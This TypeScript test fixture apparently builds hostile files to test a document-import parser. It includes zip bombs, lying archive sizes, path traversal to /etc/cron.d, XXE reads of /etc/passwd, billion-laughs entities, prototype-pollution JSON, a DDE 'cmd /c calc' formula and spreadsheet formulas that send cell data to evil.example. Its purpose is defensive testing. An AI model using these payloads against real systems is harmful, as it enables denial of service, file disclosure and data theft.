import { type HostileInput, text, zip } from './hostile-input.ts';

const WORKBOOK =
  '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Blad1" sheetId="1" r:id="rId1"/></sheets></workbook>';
const RELS =
  '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Target="worksheets/sheet1.xml"/></Relationships>';

const sheetOf = (rows: string, after = ''): string =>
  `<?xml version="1.0"?><worksheet><sheetData>${rows}</sheetData>${after}</worksheet>`;
const cell = (ref: string, value: string): string =>
  `<c r="${ref}" t="inlineStr"><is><t>${value}</t></is></c>`;
const HEADER = `<row r="1">${cell('A1', 'Naam')}${cell('B1', 'Adres')}${cell('C1', 'Achterstand')}</row>`;
const GOOD_ROW = `<row r="2">${cell('A2', 'Verbeke Tom')}${cell('B2', 'Barelstraat 27, 2880 Bornem')}<c r="C2"><v>1032.3</v></c></row>`;

const xlsx = (sheet: string | Uint8Array, more: Readonly<Record<string, string | Uint8Array>> = {}) =>
  zip({
    'xl/workbook.xml': WORKBOOK,
    'xl/_rels/workbook.xml.rels': RELS,
    'xl/worksheets/sheet1.xml': sheet,
    ...more,
  });

/** Changes the sizes that the directory of a container declares. */
const lying = (bytes: Uint8Array, declared: number): Uint8Array => {
  const copy = Buffer.from(bytes);
  for (let at = copy.indexOf('PK\u0001\u0002'); at >= 0; at = copy.indexOf('PK\u0001\u0002', at + 4))
    copy.writeUInt32LE(declared, at + 24);
  return new Uint8Array(copy);
};

const file = (
  name: string,
  fileName: string,
  bytes: () => Uint8Array,
  more: Partial<HostileInput> = {},
): HostileInput => ({ name, channel: 'file', fileName, bytes, ...more });

const nestedZip = (depth: number): Uint8Array => {
  let inner = zip({ 'lijst.csv': 'naam;adres\nVerbeke Tom;Barelstraat 27, 2880 Bornem\n' });
  for (let level = 0; level < depth; level += 1) inner = zip({ [`laag-${level}.zip`]: inner });
  return inner;
};

/** Containers, workbooks and documents. */
export const hostileArchives: readonly HostileInput[] = [
  file('xlsx whose sheet unpacks to 150 MB', 'bom.xlsx', () => xlsx(new Uint8Array(150_000_000).fill(32)), {
    becomes: 'unreadable',
  }),
  file(
    'xlsx that declares 10 bytes and unpacks to 60 MB',
    'liegt.xlsx',
    () => lying(xlsx(new Uint8Array(60_000_000).fill(32)), 10),
    { becomes: 'unreadable' },
  ),
  file(
    'xlsx that declares 4 GB',
    'liegt-groot.xlsx',
    () => lying(xlsx(sheetOf(HEADER + GOOD_ROW)), 0xffff_fff0),
    { quick: true, becomes: 'unreadable' },
  ),
  file('bundle in bundle in bundle', 'diep.zip', () => nestedZip(12), { quick: true, becomes: 'unreadable' }),
  file(
    'bundle of 20 bombs of 70 MB each',
    'bommen.zip',
    () => {
      const bomb = xlsx(new Uint8Array(70_000_000).fill(32));
      return zip(Object.fromEntries(Array.from({ length: 20 }, (_, index) => [`lijst-${index}.xlsx`, bomb])));
    },
    { becomes: 'unreadable' },
  ),
  file(
    'bundle of 5,000 files',
    'veel.zip',
    () => zip(Object.fromEntries(Array.from({ length: 5_000 }, (_, index) => [`${index}.txt`, 'x']))),
    { quick: true, becomes: 'unreadable' },
  ),
  file('names that climb out of the folder', 'klim.zip', () => zip({ '../../../../etc/cron.d/x': 'x' }), {
    quick: true,
  }),
  file('xlsx with 6 million shared strings', 'teksten.xlsx', () =>
    xlsx(sheetOf(HEADER + GOOD_ROW), {
      'xl/sharedStrings.xml': `<sst>${'<si><t/></si>'.repeat(6_000_000)}</sst>`,
    }),
  ),
  file('xlsx whose 5 million cells share one long string', 'gedeeld.xlsx', () => {
    const columns = Array.from({ length: 200 }, () => '<c t="s"><v>0</v></c>').join('');
    return xlsx(sheetOf(HEADER + `<row>${columns}</row>`.repeat(16_000)), {
      'xl/sharedStrings.xml': `<sst><si><t>${'Naam adres 12 '.repeat(285)}</t></si></sst>`,
    });
  }),
  file('xlsx with cells in the last column of the last row', 'ver.xlsx', () =>
    xlsx(sheetOf(`${HEADER}${GOOD_ROW}<row r="1048576">${cell('XFD1048576', 'x')}</row>`)),
  ),
  file('xlsx with 24,000 rows of one far cell', 'leeg.xlsx', () =>
    xlsx(
      sheetOf(
        HEADER + Array.from({ length: 24_000 }, (_, i) => `<row>${cell(`GR${i + 2}`, 'x')}</row>`).join(''),
      ),
    ),
  ),
  file('xlsx with a merge over the whole sheet, 20,000 times', 'samen.xlsx', () =>
    xlsx(
      sheetOf(
        HEADER +
          GOOD_ROW +
          Array.from({ length: 5_000 }, (_, i) => `<row r="${i + 3}">${cell(`A${i + 3}`, 'y')}</row>`).join(
            '',
          ),
        `<mergeCells>${'<mergeCell ref="A1:XFD1048576"/>'.repeat(20_000)}</mergeCells>`,
      ),
    ),
  ),
  file('xlsx with 30,000 rows', 'rijen.xlsx', () => xlsx(sheetOf(HEADER + GOOD_ROW.repeat(30_000))), {
    becomes: 'unreadable',
  }),
  file(
    'xlsx with formulas, external links and a DDE command',
    'formules.xlsx',
    () =>
      xlsx(
        sheetOf(
          `${HEADER}<row r="2"><c r="A2" t="str"><f>HYPERLINK("http://evil.example/?"&amp;A1,"Verbeke Tom")</f><v>Verbeke Tom</v></c>${cell('B2', 'Barelstraat 27, 2880 Bornem')}<c r="C2"><f>cmd|'/c calc'!A0</f><v>1032.3</v></c></row><row r="3"><c r="A3"><f>WEBSERVICE("http://evil.example")</f></c></row>`,
        ),
        { 'xl/externalLinks/externalLink1.xml': '<externalLink/>' },
      ),
    { quick: true },
  ),
  file(
    'xlsx with an external entity',
    'entiteit.xlsx',
    () =>
      xlsx(
        `<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/passwd">]><worksheet><sheetData>${HEADER}<row r="2">${cell('A2', '&x;')}</row></sheetData></worksheet>`,
      ),
    { quick: true, becomes: 'unreadable' },
  ),
  file(
    'docx with a bomb of entities',
    'brief.docx',
    () =>
      zip({
        'word/document.xml': `<?xml version="1.0"?><!DOCTYPE d [${Array.from({ length: 10 }, (_, i) => `<!ENTITY a${i + 1} "${`&a${i};`.repeat(10)}">`).join('')}]><document><body><p><r><t>&a10;</t></r></p></body></document>`,
      }),
    { quick: true, becomes: 'unreadable' },
  ),
  file('docx nested 200,000 deep', 'diep.docx', () =>
    zip({ 'word/document.xml': `<document>${'<p>'.repeat(200_000)}x${'</p>'.repeat(200_000)}</document>` }),
  ),
  file('docx with one paragraph of 20 MB', 'alinea.docx', () =>
    zip({
      'word/document.xml': `<document><p><r><t>${'huur achterstand 12 '.repeat(1_000_000)}</t></r></p></document>`,
    }),
  ),
  file(
    'container that ends in the middle',
    'half.xlsx',
    () => {
      const whole = xlsx(sheetOf(HEADER + GOOD_ROW));
      return whole.subarray(0, Math.floor(whole.length / 2));
    },
    { quick: true, becomes: 'unreadable' },
  ),
];

const xml = (body: string): Uint8Array => text(`<?xml version="1.0" encoding="UTF-8"?>${body}`);

/** XML and JSON. */
export const hostileTrees: readonly HostileInput[] = [
  file(
    'a billion laughs',
    'lol.xml',
    () =>
      xml(
        `<!DOCTYPE v [<!ENTITY a0 "ha">${Array.from({ length: 9 }, (_, i) => `<!ENTITY a${i + 1} "${`&a${i};`.repeat(10)}">`).join('')}]><verzoekschrift><naam>&a9;</naam></verzoekschrift>`,
      ),
    { quick: true, becomes: 'unreadable' },
  ),
  file(
    'quadratic entity',
    'kwadraat.xml',
    () =>
      xml(
        `<!DOCTYPE v [<!ENTITY a "${'a'.repeat(50_000)}">]><verzoekschrift>${'&a;'.repeat(50_000)}</verzoekschrift>`,
      ),
    { quick: true, becomes: 'unreadable' },
  ),
  file(
    'external entity',
    'extern.xml',
    () =>
      xml(
        '<!DOCTYPE v [<!ENTITY x SYSTEM "file:///etc/passwd">]><verzoekschrift><naam>&x;</naam></verzoekschrift>',
      ),
    { quick: true, becomes: 'unreadable' },
  ),
  file(
    'XML nested 100,000 deep',
    'diep.xml',
    () => xml(`${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}`),
    { quick: true, becomes: 'unreadable' },
  ),
  file(
    'XML element with 300,000 attributes',
    'attributen.xml',
    () => xml(`<a ${Array.from({ length: 300_000 }, (_, i) => `a${i}="1"`).join(' ')}/>`),
    { becomes: 'unreadable' },
  ),
  file('XML with 190,000 named elements', 'namen.xml', () =>
    xml(`<verzoekschriften>${'<naam>Verbeke Tom</naam>'.repeat(190_000)}</verzoekschriften>`),
  ),
  file('XML with one text of 9 MB', 'tekst.xml', () =>
    xml(`<verzoekschrift><huurder><naam>${'Verbeke Tom '.repeat(750_000)}</naam></huurder></verzoekschrift>`),
  ),
  file('XML with 30,000 equal records', 'records.xml', () =>
    xml(
      `<lijst>${'<rij><naam>Verbeke Tom</naam><straat>Barelstraat 27</straat></rij>'.repeat(30_000)}</lijst>`,
    ),
  ),
  file('JSON nested 100,000 deep', 'diep.json', () => text(`${'['.repeat(100_000)}${']'.repeat(100_000)}`), {
    quick: true,
    becomes: 'unreadable',
  }),
  file('JSON with 300,000 values', 'veel.json', () => text(`[${'{"a":1},'.repeat(150_000)}{"a":1}]`), {
    becomes: 'unreadable',
  }),
  file(
    'JSON that poisons prototypes',
    'proto.json',
    () =>
      text('{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},"naam":"Verbeke"}'),
    { quick: true },
  ),
];
